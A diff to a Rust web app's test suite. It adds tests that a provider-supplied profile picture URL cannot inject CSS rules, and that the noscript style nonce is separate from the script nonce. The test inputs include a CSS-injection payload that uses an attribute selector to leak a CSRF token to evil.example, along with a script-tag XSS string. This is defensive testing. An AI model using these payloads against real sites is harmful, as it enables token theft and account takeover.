@@ -113,8 +113,10 @@ async fn avatar_without_scripts_has_a_style_that_the_policy_allows() {
     browser.sign_in("edsger", "/").await;
     let page = browser.get("/profile").await;
     let policy = page.header("content-security-policy").unwrap();
-    assert!(policy.contains(&format!("style-src 'self' 'nonce-{}'", nonce(policy))), "{policy}");
-    let style = page.text.split(&format!("<noscript><style nonce=\"{}\">", nonce(policy))).nth(1).unwrap();
+    let style_nonce = policy.split("style-src 'self' 'nonce-").nth(1).unwrap().split('\'').next().unwrap();
+    // Scripts can read the text of `<noscript>`.
+    assert_ne!(style_nonce, nonce(policy));
+    let style = page.text.split(&format!("<noscript><style nonce=\"{style_nonce}\">")).nth(1).unwrap();
     let style = style.split("</style></noscript>").next().unwrap();
     assert!(style.contains("/people/missing.svg\"),url(\"/fallback.png\")"), "{style}");
 }
@@ -132,6 +134,30 @@ async fn a_cookie_is_set_only_where_there_is_a_form_and_only_once() {
     assert!(login.text.contains(&format!("value=\"{token}\"")), "{}", login.text);
     assert_eq!(browser.get("/login").await.cookies_written(), Vec::<&str>::new());
     assert_eq!(browser.csrf().await, token);
+}
+
+/// A URL, as the URL standard parses it.
+const CSS_IN_A_HOST: &str =
+    "https://x\")/*?*/}input[name=csrfToken][value^=a]~button{background:url(https://evil.example/a)}/*";
+
+#[tokio::test]
+async fn picture_with_css_in_its_query_adds_no_rules() {
+    let provider = FakeProvider::start();
+    let app = App::start_with(provider.configure(AppOptions::default(), "fake"));
+    let picture = CSS_IN_A_HOST.replacen("x\")/*", "x.example/", 1);
+    provider.behave(Behaviour {
+        claims: Box::new(move |claims| claims["picture"] = picture.clone().into()),
+        ..Default::default()
+    });
+    let mut browser = Client::of(&app);
+    let callback = browser.callback("fake", "", "/").await;
+    assert_eq!(browser.get(&callback).await.status, StatusCode::SEE_OTHER);
+    let page = browser.get("/profile").await;
+    let style = page.text.split("<noscript><style").nth(1).unwrap().split("</style>").next().unwrap();
+    assert!(style.contains("x.example/") && style.ends_with("\"),url(\"/fallback.png\")}"), "{style}");
+    for mark in ['{', '}'] {
+        assert_eq!(style.matches(mark).count(), 1, "{style}");
+    }
 }
 
 #[tokio::test]
@@ -156,6 +182,7 @@ async fn what_a_provider_says_of_a_person_is_text_and_does_no_harm() {
             "\"><script>alert(1)</script>",
             "//evil.example/a.png",
             "http://evil.example/a.png",
+            CSS_IN_A_HOST,
         ] {
             let (given, picture_given) = (name.to_owned(), picture.to_owned());
             provider.behave(Behaviour {
